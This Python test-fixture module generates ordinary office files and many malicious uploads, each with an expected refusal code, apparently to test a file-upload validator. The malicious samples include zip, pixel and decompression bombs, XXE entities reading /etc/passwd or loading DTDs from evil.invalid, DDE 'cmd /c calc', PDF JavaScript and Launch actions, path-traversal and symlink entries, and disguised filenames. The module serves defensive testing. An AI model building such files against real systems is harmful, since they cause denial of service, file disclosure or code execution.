"""Files made by script: bombs and traps that must be refused, and the ordinary files of an office.

No malicious file is kept in the project; each is built when it is asked for.
"""

from __future__ import annotations

import copy
import io
import random
import struct
import zipfile
import zlib
from functools import cache

import docx
import xlsxwriter
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
EXTERNAL = '<Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="{}"/>'


def document(*texts):
    made = docx.Document()
    for text in texts or ("关于书记项目的报告。",):
        made.add_paragraph(text)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def workbook(rows=20):
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out)
    page = made.add_worksheet("台账")
    for row in range(rows):
        page.write_row(row, 0, [row, "红色驿站", 3.5, "正常"])
    made.close()
    return out.getvalue()


def with_entries(content, **entries):
    """An archive with further entries; a name that is there already is replaced."""
    return with_named(content, {name.replace("__", "/"): data for name, data in entries.items()})


def with_named(content, entries):
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in entries:
                target.writestr(name, source.read(name))
        for name, data in entries.items():
            target.writestr(name, data)
    return out.getvalue()


@cache
def bomb():
    """A Word file of a few hundred kilobytes that inflates to 300 MB (B23)."""
    out = io.BytesIO(document())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("word/media/blank.xml", b" " * 300_000_000)
    return out.getvalue()


@cache
def lying_bomb():
    """The same, claiming a hundred bytes in both places where a size is written."""
    return bomb().replace(struct.pack("<I", 300_000_000), struct.pack("<I", 100))


def picture(form="JPEG", size=(640, 480), mode="RGB", **more):
    out = io.BytesIO()
    Image.new(mode, size, 128 if mode in {"L", "P"} else None).save(out, form, **more)
    return out.getvalue()


def photo_with_place():
    exif = Image.Exif()
    exif[0x010F] = "某手机"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (37.0, 51.0, 20.0)
    return picture(size=(400, 300), exif=exif)


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb(side=30_000):
    """A PNG of about a hundred kilobytes that claims 900 million pixels (B26)."""
    rows = zlib.compress(b"\x00" * (side // 8 + 1) * side, 9)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def pdf(pages=1, **more):
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    if more.get("script"):
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
        )
        writer._root_object[NameObject("/OpenAction")] = action
    if more.get("attached"):
        writer.add_attachment("x.exe", b"MZ")
    if more.get("launch"):
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd")}
        )
        writer._root_object[NameObject("/OpenAction")] = action
    if more.get("password"):
        writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scan():
    """A scanned page: a picture in a PDF whose compressed bytes contain anything."""
    out = io.BytesIO()
    noise = Image.frombytes("L", (300, 400), bytes((i * i * 2654435761 >> 7) & 255 for i in range(120_000)))
    noise.save(out, "PDF")
    return out.getvalue()


def packed_script(coding=b"/FlateDecode", padding=b"", before=b"", others=0):
    """A PDF that hides its script in a compressed object stream, behind other streams or a long dictionary."""
    script = b"5 0 << /S /Java#53cript /JS (app.alert) >>"
    streams = [_object_stream(b"5 0 << /N 1 >>")] * others
    streams.append(_object_stream(before + script, coding, padding))
    return b"%PDF-1.5\n" + b"".join(streams) + b"%%EOF"


def _object_stream(text, coding=b"/FlateDecode", padding=b""):
    packed = zlib.compress(text)
    if b"ASCIIHex" in coding:
        packed = packed.hex().encode() + b">"
    head = b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter " + coding + b" " + padding
    return head + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"


def ole(*marks):
    return OLE + b"\x00" * 504 + "".join(marks).encode("utf-16-le") + b"\x00" * 600


def ofd():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://x"/>')
        archive.writestr("Doc_0/Document.xml", "<Document/>")
    return out.getvalue()


def malicious():
    """(name, bytes, code of the refusal) for uploads as evidence."""
    base, sheet = document(), workbook()
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    rels = "word/_rels/settings.xml.rels"
    yield "bomb.docx", bomb(), "files.inflates_too_much"
    yield "lying.docx", lying_bomb(), "files.inflates_too_much"
    yield (
        "many.xlsx",
        with_named(sheet, {f"xl/media/{n}.png": b"" for n in range(2001)}),
        "files.too_many_entries",
    )
    yield "doctype.docx", with_named(base, {"word/document.xml": entity}), "files.forbidden_markup"
    yield "doctype.xlsx", with_named(sheet, {"xl/workbook.xml": entity}), "files.forbidden_markup"
    yield (
        "small-letters.docx",
        with_named(base, {"word/document.xml": entity.lower()}),
        "files.forbidden_markup",
    )
    wide = entity.decode().encode("utf-16")
    yield "utf16.docx", with_named(base, {"word/document.xml": wide}), "files.forbidden_markup"
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?><x/>'
    yield "utf7.docx", with_named(base, {"word/document.xml": utf7}), "files.forbidden_markup"
    split = b"<x>" + b" " * (64 * 1024 - 6) + b"<!DOCTYPE x><y/></x>"
    yield "split.docx", with_named(base, {"word/document.xml": split}), "files.forbidden_markup"
    remote = RELATIONSHIPS.format(
        EXTERNAL.format("attachedTemplate", "http://evil.invalid/t.dotm", "External")
    )
    yield "template.docx", with_named(base, {rels: remote}), "files.external_target"
    hidden = RELATIONSHIPS.format(EXTERNAL.format("image", "file:///etc/passwd", "&#69;xternal"))
    yield "picture.docx", with_named(base, {rels: hidden}), "files.external_target"
    yield "macro.docx", with_named(base, {"word/vbaProject.bin": b"x"}), "files.macros"
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    yield "renamed.docx", with_named(base, {"[Content_Types].xml": types}), "files.macros"
    yield "climb.docx", with_named(base, {"../../x": b"x"}), "files.unsafe_entry"
    yield "root.docx", with_named(base, {"/etc/x": b"x"}), "files.unsafe_entry"
    yield "drive.docx", with_named(base, {"C:x": b"x"}), "files.unsafe_entry"
    yield "twice.docx", with_named(base, {"Word/Document.XML": b"<x/>"}), "files.unsafe_entry"
    yield "link.docx", _with_special(base, 0o120777), "files.unsafe_entry"
    yield "cut.docx", base[: len(base) // 2], "files.damaged"
    yield "other.docx", sheet, "files.not_what_it_says"
    yield "zip.xlsx", ofd(), "files.not_what_it_says"
    yield "locked.docx", ole("EncryptedPackage"), "files.encrypted"
    yield "macro.xls", ole("_VBA_PROJECT"), "files.macros"
    yield "page.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "files.extension"
    yield "page.html", b"<html></html>", "files.extension"
    yield "page.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "files.not_what_it_says"
    yield "page.jpg", b"<!doctype html><script>1</script>", "files.not_what_it_says"
    yield "page.txt", "\ufeff <html><script>1</script>".encode(), "files.not_what_it_says"
    yield "data.csv", b"<?xml version='1.0'?><x/>", "files.not_what_it_says"
    yield "program.exe", b"MZ", "files.extension"
    yield "double.pdf.exe", b"MZ", "files.extension"
    yield "none", b"x", "files.extension"
    yield "pixels.png", pixel_bomb(), "files.too_many_pixels"
    yield "wrong.png", picture("JPEG"), "files.not_what_it_says"
    yield "cut.png", b"\x89PNG\r\n\x1a\n", "files.damaged"
    yield "script.pdf", pdf(script=True), "files.active_content"
    yield "attached.pdf", pdf(attached=True), "files.active_content"
    yield "launch.pdf", pdf(launch=True), "files.active_content"
    yield "packed.pdf", packed_script(), "files.active_content"
    yield "locked.pdf", pdf(password=True), "files.encrypted"
    yield "cut.pdf", pdf()[:200], "files.damaged"
    yield "empty.pdf", b"", "files.empty"
    yield "zero.txt", b"a\x00b", "files.not_what_it_says"
    yield from malicious_archives(base, sheet)
    yield from malicious_papers()
    yield from malicious_names_and_pictures()


def malicious_archives(base, sheet):
    """Archives that say one thing and hold another, or carry what no report needs."""
    slides, paper = _slides(), ofd()
    yield (
        "ratio.docx",
        with_named(base, {"word/media/blank.xml": b" " * 60_000_000}),
        "files.inflates_too_much",
    )
    yield "overlap.docx", overlapping(base), "files.damaged"
    yield (
        "long.docx",
        with_named(base, {"word/_rels/document.xml.rels": _padded_links()}),
        "files.inflates_too_much",
    )
    yield "bzip.docx", _repacked(base, zipfile.ZIP_BZIP2), "files.damaged"
    yield "password.docx", _marked_encrypted(base), "files.encrypted"
    yield "two-archives.docx", with_named(base, {"word/vbaProject.bin": b"x"}) + base, "files.damaged"
    yield "two-names.docx", _renamed_inside(base), "files.damaged"
    yield "torn.docx", _torn(base), "files.damaged"
    yield (
        "backslash.docx",
        _renamed(base, "word/theme/theme1.xml", r"word\theme\theme1.xml"),
        "files.unsafe_entry",
    )
    yield (
        "nul.docx",
        _renamed(base, "word/theme/theme1.xml", "word/theme/theme\x00.xml"),
        "files.unsafe_entry",
    )
    yield "device.docx", _with_special(base, 0o020666), "files.unsafe_entry"
    yield "controls.docx", with_named(base, {"word/activeX/activeX1.xml": b"<x/>"}), "files.macros"
    yield "old-macros.xlsx", with_named(sheet, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "files.macros"
    yield "program.docx", with_named(base, {"word/embeddings/setup.exe": b"MZ"}), "files.active_part"
    yield "web-page.docx", with_named(base, {"word/afchunk.html": b"<script>1</script>"}), "files.active_part"
    yield "nested.docx", with_named(base, {"word/embeddings/more.zip": base}), "files.active_part"
    packed = b"\x00" * 70_000 + "Ole10Native".encode("utf-16-le")
    yield "package.docx", with_named(base, {"word/embeddings/oleObject1.bin": packed}), "files.active_part"
    yield "shortcut.ofd", with_named(paper, {"Doc_0/Attachs/x.lnk": b"L"}), "files.active_part"
    link = RELATIONSHIPS.format(EXTERNAL.format("externalLinkPath", "file://host/share/x.xlsx", "External"))
    yield (
        "other-book.xlsx",
        with_named(sheet, {"xl/externalLinks/_rels/externalLink1.xml.rels": link}),
        "files.external_target",
    )
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "dde.xlsx", with_named(sheet, {"xl/externalLinks/externalLink1.xml": dde}), "files.external_target"
    query = b'<connections><connection><webPr url="http://evil.invalid/"/></connection></connections>'
    yield "query.xlsx", with_named(sheet, {"xl/connections.xml": query}), "files.external_target"
    film = RELATIONSHIPS.format(EXTERNAL.format("video", "http://evil.invalid/v.mp4", "External"))
    yield "film.pptx", with_named(slides, {"ppt/slides/_rels/slide1.xml.rels": film}), "files.external_target"
    kind = b'<?xml version="1.0"?><!DOCTYPE ofd SYSTEM "http://evil.invalid/x.dtd"><ofd/>'
    yield "dtd.ofd", with_named(paper, {"OFD.xml": kind}), "files.forbidden_markup"
    entity = b'<x><!ENTITY % p SYSTEM "http://evil.invalid/p"> %p;</x>'
    yield "drawing.xlsx", with_named(sheet, {"xl/drawings/vmlDrawing1.vml": entity}), "files.forbidden_markup"


def malicious_papers():
    """PDF and old Office files that hide what acts by itself from a careless search."""
    script = b"7 0 obj << /S /JavaScript /JS (app.alert) >> endobj\n"
    yield "revised.pdf", pdf() + b"\n" + script + b"%%EOF", "files.active_content"
    yield "spelled.pdf", plain_pdf(b"<< /S /J#61vaScript /#4AS (x) >>"), "files.active_content"
    yield "film.pdf", plain_pdf(b"<< /Subtype /RichMedia >>"), "files.active_content"
    yield "form.pdf", plain_pdf(b"<< /AcroForm << /XFA [] >> >>"), "files.active_content"
    yield "sending.pdf", plain_pdf(b"<< /S /SubmitForm /F (http://evil.invalid) >>"), "files.active_content"
    yield "string.pdf", plain_pdf(b"(stream\n) << /JS (x) >> (endstream)"), "files.active_content"
    yield "coded.pdf", packed_script(coding=b"[/ASCIIHexDecode /FlateDecode]"), "files.active_content"
    yield "padded.pdf", packed_script(padding=b"/Pad (" + b"x" * 5000 + b")"), "files.active_content"
    yield "late.pdf", packed_script(before=b" " * 5_000_000), "files.active_content"
    yield "thousandth.pdf", packed_script(others=1000), "files.active_content"
    yield "swelling.pdf", packed_script(before=b" " * 70_000_000), "files.inflates_too_much"
    yield "page-first.pdf", b"<html><script>1</script></html>" + pdf(), "files.not_what_it_says"
    yield "package.doc", ole("Ole10Native"), "files.active_part"
    yield "stub.doc", OLE + b"\x00" * 40, "files.damaged"
    yield "locked.xls", ole("EncryptionInfo"), "files.encrypted"


def malicious_names_and_pictures():
    """Names that are read one way and opened another; pictures that swell or are none."""
    yield "large.pdf", b"%PDF-" + b"\x00" * (50 * 1024 * 1024), "files.too_large"
    yield "报告\u202excod.exe", document(), "files.extension"
    yield "setup.exe\x00.pdf", b"MZ" + b"\x00" * 600, "files.not_what_it_says"
    yield "报告.pdf::$DATA", pdf(), "files.extension"
    yield "报告.docm", document(), "files.extension"
    yield "报告.pdf.", pdf() + b"<</JS(x)>>%%EOF", "files.active_content"
    yield "noise.txt", bytes(range(128, 256)) * 4, "files.not_what_it_says"
    yield "frame.csv", "姓名\n<iframe src=//evil.invalid>".encode(), "files.not_what_it_says"
    yield "pixels.jpg", jpeg_claiming(65_000, 65_000), "files.too_many_pixels"
    yield "pixels.webp", picture("WEBP", size=(7000, 7000)), "files.too_many_pixels"
    yield "whole.webp", picture("WEBP", size=(7000, 7000), lossless=True), "files.too_many_pixels"
    yield "canvas.webp", webp_claiming(16_000, 16_000), "files.too_many_pixels"
    yield "words.png", png_with_words(), "files.damaged"
    yield "nothing.png", png_of(0, 0), "files.damaged"
    yield "scan.jpg", picture("TIFF"), "files.not_what_it_says"
    yield "anim.png", picture("GIF", mode="P"), "files.not_what_it_says"
    yield "sound.webp", b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 40, "files.not_what_it_says"


def _with_special(content, mode):
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = mode << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _repacked(content, method):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue()


def overlapping(content):
    """Forty entries that share the same few packed bytes: each inflates to ten megabytes (Fifield's bomb)."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/kernel.bin", random_bytes(90_000) + b" " * 8_000_000)
        kernel = archive.getinfo("word/media/kernel.bin")
        for number in range(40):
            twin = copy.copy(kernel)
            twin.filename = twin.orig_filename = f"word/media/kernel{number}.bin"
            archive.filelist.append(twin)
    return out.getvalue()


def random_bytes(count):
    """Bytes that do not pack, the same each time."""
    return random.Random(1).randbytes(count)


def _padded_links():
    """A harmless beginning and end around three megabytes in which the link to the outside stands."""
    padding = "<!--" + "x" * 1_500_000 + "-->"
    link = EXTERNAL.format("attachedTemplate", "http://evil.invalid/t.dotm", "External")
    return RELATIONSHIPS.format(padding + link + padding)


def _marked_encrypted(content):
    """Every part's flag says that a password protects it."""
    made = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := made.find(mark, at + 1)) >= 0:
            made[at + place] |= 1
    return bytes(made)


def _renamed_inside(content):
    """The list of parts names one, the part itself another."""
    name = b"word/theme/theme1.xml"
    return content.replace(name, b"word/vbaProject.bin\x20\x20", 1)


def _renamed(content, name, other):
    """One part under another name of equal length, in both places."""
    return content.replace(name.encode(), other.encode().ljust(len(name), b"_")[: len(name)])


def _torn(content):
    """Packed bytes of a part overwritten; all headers stay right."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        at = archive.getinfo("word/document.xml").header_offset + 30 + len("word/document.xml")
    return content[:at] + b"\xff" * 40 + content[at + 40 :]


def plain_pdf(words):
    """A PDF written by hand, with some words as its second object."""
    head = b"%PDF-1.5\n1 0 obj << /Type /Catalog >> endobj\n2 0 obj "
    return head + words + b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF"


def jpeg_claiming(width, height):
    """A small JPEG whose header claims another size."""
    made = bytearray(picture())
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)


def webp_claiming(width, height):
    """A few bytes of WebP that claim a canvas."""
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF\x40\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00" + sides + b"\x00" * 40


def png_of(width, height):
    """A PNG of a claimed size with next to no pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head)
    return start + _chunk(b"IDAT", zlib.compress(b"\x00")) + _chunk(b"IEND", b"")


def png_with_words(count=80_000_000):
    """A PNG whose comment inflates to so many bytes."""
    words = b"Comment\x00\x00" + zlib.compress(b" " * count, 9)
    made = picture("PNG")
    return made[:33] + _chunk(b"zTXt", words) + made[33:]


def ordinary():
    """(name, bytes) of forty everyday files."""
    link = RELATIONSHIPS.format(EXTERNAL.format("hyperlink", "https://example.invalid/", "External"))
    yield "报告.docx", document()
    yield "长报告.docx", document(*["为深入贯彻落实部署要求。" * 40] * 200)
    yield "带链接.docx", with_named(document(), {"word/_rels/footer.xml.rels": link})
    yield "带括号.docx", document("费用 {暂定}，比例 50%。")
    yield "REPORT.DOCX", document("大写扩展名")
    for rows in (1, 20, 500, 5000):
        yield f"台账{rows}.xlsx", workbook(rows)
    yield "空白很多.xlsx", _sparse()
    yield "演示.pptx", _slides()
    yield "电子公文.ofd", ofd()
    for name in ("旧.doc", "旧.xls", "旧.ppt", "旧.wps", "旧.et"):
        yield name, ole("WordDocument")
    for pages in (1, 2, 30):
        yield f"通知{pages}.pdf", pdf(pages)
    yield "扫描件.pdf", scan()
    yield "照片.jpg", photo_with_place()
    yield "照片.jpeg", picture(size=(4000, 3000))
    yield "大照片.jpg", picture(size=(7000, 7000))
    yield "渐进.jpg", picture(progressive=True)
    yield "灰度.jpg", picture(mode="L")
    yield "印刷.jpg", picture(mode="CMYK")
    yield "截图.png", picture("PNG")
    yield "透明.png", picture("PNG", mode="RGBA")
    yield "索引.png", picture("PNG", mode="P")
    yield "黑白.png", picture("PNG", mode="1")
    yield "网图.webp", picture("WEBP")
    yield "说明.txt", "说明文字。\r\n第二行。".encode()
    yield "说明国标.txt", "说明文字。".encode("gbk")
    yield "比较.txt", b"a < b and b > c"
    yield "名单.csv", "姓名,电话\n张某某,13800000000\n".encode("utf-8-sig")
    yield "名单国标.csv", "姓名,电话\n张某某,13800000000\n".encode("gbk")
    yield "带 空格 的名字（定稿）.pdf", pdf()
    yield "两.个.点.pdf", pdf()
    yield "很长" * 60 + ".pdf", pdf()
    yield "一级\\文件夹\\附件.pdf", pdf()
    yield "带注释.png", png_with_words(900)
    drawn = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook(), "word/media/image1.svg": b"<svg/>"}
    yield "带图表.docx", with_named(document(), drawn)
    equation = {"word/embeddings/oleObject1.bin": ole("Equation Native")}
    yield "带公式.docx", with_named(document(), equation)
    yield (
        "带打印设置.xlsx",
        with_named(workbook(), {"xl/printerSettings/printerSettings1.bin": b"\x00" * 900}),
    )
    yield "对象流.pdf", b"%PDF-1.5\n" + _object_stream(b"5 0 << /N 1 >>") * 400 + b"%%EOF"
    yield "不压缩.pdf", plain_pdf(b"<< /Length 9 >>\nstream\nBT ET q Q\nendstream")


def _sparse():
    """A form with many empty formatted cells: it packs a hundred times and is no bomb."""
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out)
    page, style = made.add_worksheet(), made.add_format({"border": 1})
    for row in range(400):
        for column in range(20):
            page.write_blank(row, column, None, style)
    made.close()
    return out.getvalue()


def _slides():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("ppt/presentation.xml", '<?xml version="1.0" encoding="UTF-8"?><p/>')
    return out.getvalue()
